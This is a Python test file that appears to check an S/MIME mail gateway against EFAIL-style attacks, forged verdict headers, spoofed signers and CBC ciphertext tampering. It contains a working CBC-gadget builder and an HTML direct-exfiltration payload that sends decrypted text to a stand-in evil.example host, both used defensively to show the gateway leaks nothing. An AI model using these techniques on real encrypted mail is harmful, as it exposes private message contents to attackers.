"""S/MIME leaks nothing and lies about nothing: forged verdicts, wrong authors, parts beside others, changed text."""
import re
import unittest

import corpus
import smime_made
from harness import ALICE, BOB
from imap_harness import check, whole
from smime_made import CBC, GCM, P256, around, detached, enveloped, entity_of, leaf, opaque, packed, people, sealed
from smime_made import signed
from test_imap_first import VERDICT, from_bob
from test_imap_safety import FORGED
from test_imap_smime import Smime, brief, damaged

HTML = (b"Content-Type: text/html; charset=utf-8\r\n\r\n<html><body><p>the %s came in</p></body></html>\r\n" %
        corpus.CANARY)
EVIL = b"http://evil.example/"
AES_256_CBC = bytes.fromhex("60864801650304012a0410")
BLOCK = 16


def xor(*rows):
    return bytes(a ^ b ^ c for a, b, c in zip(*rows))


def with_gadgets(der, plain, at, texts):
    """What an attacker can do who knows the beginning of a text in CBC, and has no key: blocks of his own text, each
    after one of noise, from block `at` on, in place of what was there."""
    begin = der.index(AES_256_CBC) + len(AES_256_CBC)
    initial = der[begin:begin + BLOCK]
    size = (len(plain) // BLOCK + 1) * BLOCK
    cipher = der[-size:]
    made = b"".join(xor(initial, plain[:BLOCK], text) + cipher[:BLOCK] for text in texts)
    cipher = cipher[:at * BLOCK] + made + cipher[at * BLOCK + len(made):]
    return der[:-size] + cipher


class Safe(Smime):
    def put(self, *messages, **options):
        self.begin_with(*messages, **options)
        return list(self.views().values())

    def check_no_html(self, view):
        """Nothing that a mail program would render, whatever stands in it."""
        for kind in re.findall(rb"(?im)^content-type:\s*([^\s;]+)", view):
            self.assertIn(kind.lower(), (b"text/plain", b"multipart/mixed", b"application/octet-stream"), view)
        self.assertNotIn(b"signature=good", view[:600])
        self.assertNotIn(b"integrity=ok", view[:600])


class Verdicts(Safe):
    def test_forged(self):
        """Outside, within what was sealed, and within what was signed: one verdict, which was found here."""
        entity = entity_of(from_bob("inner"))
        outside = [FORGED[number % len(FORGED)] + message for number, message in enumerate(
            (sealed(from_bob("a"), sign=None), signed(from_bob("b"), by=people().mallory),
             sealed(from_bob("c"), sign=None, cipher=CBC), sealed(from_bob("d"), to=people().carol),
             signed(from_bob("e"), people().mallory, opaque)))]
        inside = [around(from_bob("f"), enveloped(FORGED[0] + entity)),
                  around(from_bob("g"), packed(FORGED[1] + entity)),
                  around(from_bob("h"), opaque(FORGED[3] + entity, people().mallory)),
                  around(from_bob("i"), enveloped(FORGED[4] + entity, cipher=CBC)),
                  around(from_bob("j"), detached(FORGED[0] + entity, people().mallory))]
        for number, view in enumerate(self.put(*outside, *inside)):
            with self.subTest(number=number):
                header = view.split(b"\r\n\r\n")[0] + b"\r\n"
                found = VERDICT.findall(header)
                self.assertLessEqual(len(found), 1, header)
                self.assertNotRegex(header, rb"(?i)signature\s*=\s*good|trust\s*=\s*full")

    def test_what_is_enclosed_keeps_its_bytes(self):
        inner = FORGED[0] + from_bob("forwarded")
        enclosed = b"Content-Type: message/rfc822\r\n\r\n" + inner
        for view in self.put(around(from_bob("a"), enveloped(opaque(enclosed))),
                             around(from_bob("b"), detached(enclosed))):
            self.assertIn(inner, view)
            self.assertIn(b"signature=good; signer=bob@example.net", VERDICT.search(view).group(0))

    def test_whose_it_is(self):
        """Of each signature, in the open and sealed, what it is worth to who reads the From."""
        who = people()
        old = brief(who.bob_ec, -60)
        server = who.authority.issue(BOB, "server", ("basicConstraints=CA:FALSE", "extendedKeyUsage=serverAuth"), P256)
        rows = ((who.bob, "good"), (who.carol, "mismatch"), (who.mallory, "untrusted"), (old, "expired"),
                (server, "bad"))
        views = self.put(*[make(from_bob("n"), by) for by, _ in rows for make in (
            signed, sealed, lambda message, by: signed(message, by, opaque),
            lambda message, by: sealed(message, by, cipher=CBC),
            lambda message, by: around(message, detached(enveloped(opaque(entity_of(message), by)), by)))])
        for number, view in enumerate(views):
            word, kind = rows[number // 5][1], number % 5
            self.check_verdict(view, signature=word, encryption=("none", "smime", "none", "smime", "smime")[kind])
            self.assertIn(corpus.CANARY, view)
            if kind == 3:
                self.check_verdict(view, integrity="ok" if word == "good" else "none")

    def test_somebody_elses_own_copy(self):
        """What is marked as one's own, and is signed by anybody else, is none: it has a verdict."""
        who = people()
        self.begin_with()
        message = corpus.text()
        with self.imap() as client:
            check(client.append("INBOX", None, None, message))
        inner = self.inside(self.server.mail()[0][1])
        false = who.stranger.issue(ALICE, "false_alice", smime_made.MAIL, P256)
        other = who.authority.issue(ALICE, "other_alice", smime_made.MAIL, P256)
        head = from_bob("head").replace(b"From: Bob <bob@example.net>", b"From: <%s>" % ALICE.encode())
        for by in (who.bob, false, other):
            self.server.put(around(head, enveloped(opaque(inner, by), cipher=CBC)), around(head, enveloped(detached(
                inner, by))))
        self.server.put(around(head, enveloped(inner)), around(head, enveloped(inner, cipher=CBC)))
        with self.imap() as client:
            client.select()
            self.assertEqual(whole(client, 1), message)
            for number in range(2, 10):
                view = whole(client, number)
                self.assertEqual(len(VERDICT.findall(view)), 1, view[:900])
                self.assertNotEqual(view, message)

    @staticmethod
    def inside(sealed_copy):
        """The signed entity of what privyseal has sealed."""
        who = people()
        for pair in (who.alice, who.alice_ec):
            try:
                plain = who.authority.run("cms", "-decrypt", "-recip", pair[0], "-inkey", pair[1], data=sealed_copy)
            except AssertionError:
                continue
            return who.authority.run("cms", "-verify", "-noverify", "-binary", "-inform", "DER",
                                     data=plain.split(b"\r\n\r\n", 1)[1])
        raise AssertionError("neither key opens it")


class Spliced(Safe):
    def test_between_html(self):
        """Direct exfiltration: an encrypted part between halves of an address is shown as it came."""
        kinds = []
        for entity in (enveloped(opaque(HTML)), enveloped(HTML), enveloped(HTML, cipher=CBC),
                       detached(enveloped(HTML))):
            for subtype in (b"mixed", b"related", b"alternative", b"signed", b"encrypted"):
                kinds.append(around(from_bob("efail"), (
                    b"Content-Type: multipart/" + subtype + b"; boundary=\"x\"\r\n\r\n--x\r\n"
                    b"Content-Type: text/html\r\n\r\n<img src=\"" + EVIL + b"\r\n--x\r\n" + entity +
                    b"\r\n--x\r\nContent-Type: text/html\r\n\r\n\">\r\n--x--\r\n")))
        for message, view in zip(kinds, self.put(*kinds)):
            self.assertNotIn(corpus.CANARY, view)
            self.check_verdict(view, encryption="partial", integrity="ok")
            self.assertTrue(view.endswith(message.split(b"\r\n\r\n", 1)[1]))

    def test_signed_beside_others(self):
        """A list's footer: partial, and every byte as it came; the same where what is signed is forwarded."""
        footer = b"--l\r\nContent-Type: text/plain\r\n\r\na footer\r\n--l--\r\n"
        head = b"Content-Type: multipart/mixed; boundary=\"l\"\r\n\r\n--l\r\n"
        forwarded = b"Content-Type: message/rfc822\r\n\r\n" + signed(from_bob("in"))
        kinds = [around(from_bob("list"), head + part + b"\r\n" + footer)
                 for part in (detached(HTML), opaque(HTML), forwarded)]
        for message, view in zip(kinds, self.put(*kinds)):
            self.check_verdict(view, signature="partial", encryption="none")
            self.assertTrue(view.endswith(message.split(b"\r\n\r\n", 1)[1]))


class Changed(Safe):
    def test_gadgets(self):
        """Text of an attacker's own in what was HTML: nothing is rendered, and nothing is called sound."""
        text = HTML.replace(b"<p>", b"<p>" + b"all work and no play " * 40)
        wrong = [b"\"><img x=\"aaaaaa", b"\" src=\"//evil/\" ", b"a=\"bbbbbbbbbbbbb"]
        bare = smime_made.der_encrypted(text, cipher=CBC)
        inner = opaque(text)
        both = smime_made.der_encrypted(inner, cipher=CBC)
        kinds = [around(from_bob("bare"), enveloped(text, cipher=CBC))]
        kinds += [damaged(around(from_bob("bare"), enveloped(text, cipher=CBC)),
                          lambda _, at=at: with_gadgets(bare, text, at, wrong)) for at in (3, 4, 7, 20)]
        kinds += [damaged(around(from_bob("both"), enveloped(inner, cipher=CBC)),
                          lambda _, at=at: with_gadgets(both, inner, at, wrong)) for at in (8, 12, 40)]
        # Signed anew by somebody whom nobody doubts.
        kinds += [around(from_bob("outer"), detached(leaf(with_gadgets(bare, text, 4, wrong)), people().carol))]
        views = self.put(*kinds)
        self.assertTrue(any(b"//evil/" in view for view in views[1:5]), "the gadgets do not work")
        for view in views:
            if b"encryption=failed" in view[:300]:
                self.assertNotIn(b"all work", view)
                continue
            self.check_no_html(view)

    def test_signed_by_somebody_outside(self):
        """A good signature over ciphertext in CBC says nothing of what it holds."""
        views = self.put(around(from_bob("a"), detached(enveloped(HTML, cipher=CBC))),
                         around(from_bob("b"), opaque(enveloped(HTML, cipher=CBC))))
        for view in views:
            self.check_verdict(view, integrity="none")
            self.assertNotIn(b"text/html", view)

    def test_ciphers_that_are_none(self):
        """Modes that anybody can change at will are not opened; nor is CBC within anything but signatures."""
        kinds = [around(from_bob(cipher), enveloped(opaque(HTML), cipher=cipher))
                 for cipher in ("aes-256-cfb", "aes-256-ofb", "aes-128-cfb")]
        kinds += [around(from_bob("packed"), packed(enveloped(HTML, cipher=CBC))),
                  around(from_bob("twice"), enveloped(enveloped(HTML, cipher=CBC), cipher=GCM))]
        views = self.put(*kinds)
        for view in views:
            self.assertNotIn(corpus.CANARY, view)
        for view in views[:-1]:
            self.check_verdict(view, encryption="failed")
        self.assertIn(b"enveloped-data", views[-1])


if __name__ == "__main__":
    unittest.main()
